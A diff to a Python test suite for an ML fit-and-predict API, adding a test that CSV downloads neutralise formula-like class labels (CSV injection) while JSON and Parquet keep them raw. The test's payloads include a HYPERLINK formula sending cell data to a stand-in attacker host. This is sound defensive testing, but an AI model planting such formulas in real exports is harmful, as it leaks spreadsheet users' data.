@@ -3,6 +3,7 @@ columns, and results downloaded as CSV or Parquet."""
 
 from __future__ import annotations
 
+import csv as csv_module
 import io
 import math
 import uuid
@@ -173,6 +174,48 @@ def test_csv_upload_fits_and_predicts_like_json(api, stack):
     assert list(table.columns) == ["prediction", "proba_setosa", "proba_versicolor"]
     assert table["prediction"].tolist() == from_file["predictions"]
     np.testing.assert_allclose(table.iloc[:, 1:].to_numpy(), from_file["probabilities"])
+
+
+def test_a_csv_result_does_not_run_formulas_from_labels_in_a_spreadsheet(api, stack):
+    # Class labels are the user's text: a CSV download must not hand a spreadsheet
+    # a formula to run (OWASP CSV injection); JSON and Parquet keep them as they are.
+    headers = register(api)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"]
+    X = [[float(i), float(i % 3)] for i in range(12)]
+    y = [hostile[i % 2] for i in range(12)]
+    job = _accepted(
+        api.post(
+            "/jobs/fit-predict",
+            headers=headers,
+            json={
+                "task": "classification",
+                "train": {"X": X, "y": y, "columns": ["a", "=b"]},
+                "test": {"X": [[-1.5, 0.0], [1.0, 1.0]]},
+                "output": "probabilities",
+            },
+        )
+    )
+    assert wait_for_job(api, headers, job["id"])["status"] == "succeeded"
+    as_json = api.get(f"/jobs/{job['id']}/result", headers=headers).json()
+    assert set(as_json["predictions"]) <= set(hostile)
+
+    def download(**params) -> list[list[str]]:
+        response = api.get(
+            f"/jobs/{job['id']}/result", params={"format": "csv", **params}, headers=headers
+        )
+        assert response.status_code == 200, response.text
+        return list(csv_module.reader(io.StringIO(response.text, newline="")))
+
+    header, *rows = download()
+    assert [row[0] for row in rows] == ["'" + label for label in as_json["predictions"]]
+    for row, probabilities in zip(rows, as_json["probabilities"], strict=True):
+        assert [float(cell) for cell in row[1:]] == probabilities  # numbers stay numbers
+    assert header == ["prediction", *(f"proba_{label}" for label in as_json["classes"])]
+    # Turned off on request; Parquet is never changed.
+    assert [row[0] for row in download(escape_formulas="false")[1:]] == as_json["predictions"]
+    parquet = api.get(f"/jobs/{job['id']}/result", params={"format": "parquet"}, headers=headers)
+    frame = pd.read_parquet(io.BytesIO(parquet.content))
+    assert frame["prediction"].tolist() == as_json["predictions"]
 
 
 def test_parquet_upload_with_integer_labels_and_dates(api, stack):
